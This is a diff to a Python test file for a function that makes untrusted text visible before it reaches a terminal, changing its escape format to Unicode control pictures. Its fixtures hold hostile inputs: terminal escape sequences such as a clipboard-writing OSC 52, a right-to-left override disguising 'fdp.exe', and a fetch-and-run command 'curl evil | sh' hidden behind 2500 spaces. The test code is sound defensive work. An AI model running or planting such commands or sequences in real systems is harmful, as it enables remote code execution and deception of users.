@@ -17,9 +17,7 @@ from hypothesis import strategies as st
 
 from subagents._visible import SPACE_RUN, visible, visible_command
 
-_HEX = {"x": 2, "u": 4, "U": 8}
-_NAMED = {"n": "\n", "r": "\r", "t": "\t", "\\": "\\"}
-_RUN = re.compile(r"⟨(\d+) spaces⟩")
+_SIGN = re.compile(r"⟨(?:U\+([0-9A-F]{4,6})|(\d+) spaces)⟩")
 
 
 def decode(shown: str) -> str:
@@ -29,22 +27,20 @@ def decode(shown: str) -> str:
     while index < len(shown):
         char = shown[index]
         if char == "⟨":
-            run = _RUN.match(shown, index)
-            assert run is not None, shown
-            out.append(" " * int(run.group(1)))
-            index = run.end()
+            sign = _SIGN.match(shown, index)
+            assert sign is not None, shown
+            code, spaces = sign.groups()
+            out.append(chr(int(code, 16)) if code else " " * int(spaces))
+            index = sign.end()
             continue
-        following = shown[index + 1] if index + 1 < len(shown) else ""
-        if char == "\\" and following in _HEX:
-            digits = _HEX[following]
-            out.append(chr(int(shown[index + 2 : index + 2 + digits], 16)))
-            index += 2 + digits
-        elif char == "\\" and following in _NAMED:
-            out.append(_NAMED[following])
-            index += 2
+        if 0x2400 <= ord(char) < 0x2420:
+            out.append(chr(ord(char) - 0x2400))
+        elif char == "\u2421":
+            out.append("\x7f")
         else:
+            assert not 0x2420 <= ord(char) < 0x2440, shown
             out.append(char)
-            index += 1
+        index += 1
     return "".join(out)
 
 
@@ -53,7 +49,9 @@ hostile_text = st.text(
     st.one_of(
         st.characters(),
         st.sampled_from(
-            list("\x1b\x07\x9b\x9d\r\n\t\\ ⟨xuU\u202e\u2066\u200b\u2028\ufeff\u3164\xa0")
+            list(
+                "\x1b\x07\x7f\x9b\x9d\r\n\t\\ ⟨⟩U+␛␡\u2424\u202e\u2066\u200b\u2028\ufeff\u3164\xa0"
+            )
         ),
     ),
     max_size=60,
@@ -62,8 +60,11 @@ hostile_text = st.text(
 
 def unsafe(char: str) -> bool:
     """Whether ``char`` must never reach a terminal raw."""
-    return unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") or (
-        char in "\u115f\u1160\u3164\uffa0"
+    category = unicodedata.category(char)
+    return (
+        category in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
+        or (category == "Zs" and char != " ")
+        or char in "\u115f\u1160\u3164\uffa0"
     )
 
 
@@ -103,15 +104,14 @@ def test_different_texts_never_look_the_same(first: str, second: str) -> None:
     [
         ("src/app.py", "src/app.py"),
         ("naïve café 日本語 ✓", "naïve café 日本語 ✓"),
-        ("a\x1b]52;c;cHduZWQ=\x07b", "a\\x1b]52;c;cHduZWQ=\\x07b"),
-        ("\x1b[2J\x9b6n", "\\x1b[2J\\x9b6n"),
-        ("invoice\u202efdp.exe", "invoice\\u202efdp.exe"),
-        ("line one\nline two\r", "line one\\nline two\\r"),
-        ("C:\\Program Files\\ada", "C:\\Program Files\\ada"),
-        ("C:\\Users", "C:\\\\Users"),
-        ("a literal \\x1b", "a literal \\\\x1b"),
-        ("tab\there", "tab\\there"),
-        ("\U000e0041tag", "\\U000e0041tag"),
+        ("a\x1b]52;c;cHduZWQ=\x07b", "a␛]52;c;cHduZWQ=␇b"),
+        ("\x1b[2J\x9b6n\x7f", "␛[2J⟨U+009B⟩6n␡"),
+        ("invoice\u202efdp.exe", "invoice⟨U+202E⟩fdp.exe"),
+        ("line one\nline two\r", "line one␊line two␍"),
+        ('print("a\\nb")  # C:\\Users', 'print("a\\nb")  # C:\\Users'),
+        ("a literal ␛ and ⟨U+0000⟩", "a literal ⟨U+241B⟩ and ⟨U+27E8⟩U+0000⟩"),
+        ("tab\there", "tab␉here"),
+        ("\U000e0041tag\udcff", "⟨U+E0041⟩tag⟨U+DCFF⟩"),
     ],
 )
 def test_examples(text: str, shown: str) -> None:
@@ -121,5 +121,5 @@ def test_examples(text: str, shown: str) -> None:
 def test_a_long_run_of_spaces_is_counted_and_the_tail_shown() -> None:
     command = "ls" + " " * 2500 + "; curl evil | sh"
     assert visible_command(command) == "ls⟨2500 spaces⟩; curl evil | sh"
-    assert visible_command("a  b\tc\rd") == "a  b\\tc\\rd"
-    assert visible_command("echo ⟨3 spaces⟩") == "echo \\u27e8" + "3 spaces⟩"
+    assert visible_command("a  b\tc\rd\ne") == "a  b␉c␍d\ne"
+    assert visible_command("echo ⟨3 spaces⟩") == "echo ⟨U+27E8⟩3 spaces⟩"
